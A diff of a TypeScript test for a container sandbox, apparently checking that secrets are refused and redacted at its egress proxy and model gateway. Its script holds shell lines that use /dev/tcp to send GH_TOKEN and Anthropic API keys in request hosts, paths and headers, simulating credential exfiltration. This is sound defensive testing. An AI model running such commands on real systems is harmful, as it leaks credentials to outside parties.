@@ -30,8 +30,8 @@ const SCRIPT = [
   'echo "scratch:$(grep " /scratch " /proc/mounts | cut -d" " -f4)"',
   'echo "scratchwrite:$(echo hi > /scratch/out.txt 2>/dev/null && echo ok || echo refused)"',
   // The value as a host name to the run's egress proxy, and as a path to the model gateway (both refuse, and record).
-  'if [ -n "${PADDOCK_EGRESS_PORT:-}" ]; then exec 3<>/dev/tcp/127.0.0.1/$PADDOCK_EGRESS_PORT && printf "CONNECT $GH_TOKEN.invalid:443 HTTP/1.1\\r\\nHost: $GH_TOKEN.invalid:443\\r\\n\\r\\n" >&3 && echo "egress:$(head -1 <&3 | cut -c1-12)"; exec 3>&-; fi',
-  'exec 4<>/dev/tcp/127.0.0.1/4000 && printf "GET /v1/files/$GH_TOKEN HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nx-api-key: ${ANTHROPIC_API_KEY:-}\\r\\nAuthorization: Bearer ${ANTHROPIC_AUTH_TOKEN:-}\\r\\nConnection: close\\r\\n\\r\\n" >&4 && echo "gateway:$(head -1 <&4 | cut -c1-12)"; exec 4>&-',
+  'if [ -n "$PADDOCK_EGRESS_PORT" ]; then exec 3<>/dev/tcp/127.0.0.1/$PADDOCK_EGRESS_PORT && printf "CONNECT $GH_TOKEN.invalid:443 HTTP/1.1\\r\\nHost: $GH_TOKEN.invalid:443\\r\\n\\r\\n" >&3 && echo "egress:$(head -1 <&3 | cut -c1-12)"; exec 3>&-; fi',
+  'exec 4<>/dev/tcp/127.0.0.1/4000 && printf "GET /v1/files/$GH_TOKEN HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nx-api-key: $ANTHROPIC_API_KEY\\r\\nAuthorization: Bearer $ANTHROPIC_AUTH_TOKEN\\r\\nConnection: close\\r\\n\\r\\n" >&4 && echo "gateway:$(head -1 <&4 | cut -c1-12)"; exec 4>&-',
   'echo secrets-done',
 ].join('\n');
 
@@ -192,7 +192,7 @@ async function secretsRun(t: TestContext, engine: 'podman' | 'docker'): Promise<
         const net = await e.cli(['net', id, '--json']);
         assert.ok(!(net.stdout + net.stderr).includes(VALUE));
         assert.match(out, /egress:HTTP\/1\.1 40/);
-      assert.match(net.stdout, /\[secret GH_TOKEN\]\.invalid/);
+        assert.match(net.stdout, /\[secret GH_TOKEN\]\.invalid/);
         assert.match(JSON.stringify(events), /refused[^}]*\[secret GH_TOKEN\]/);
         return "neutralised: refused, and recorded with [secret GH_TOKEN] in the network log and the gateway's refusal event";
       },
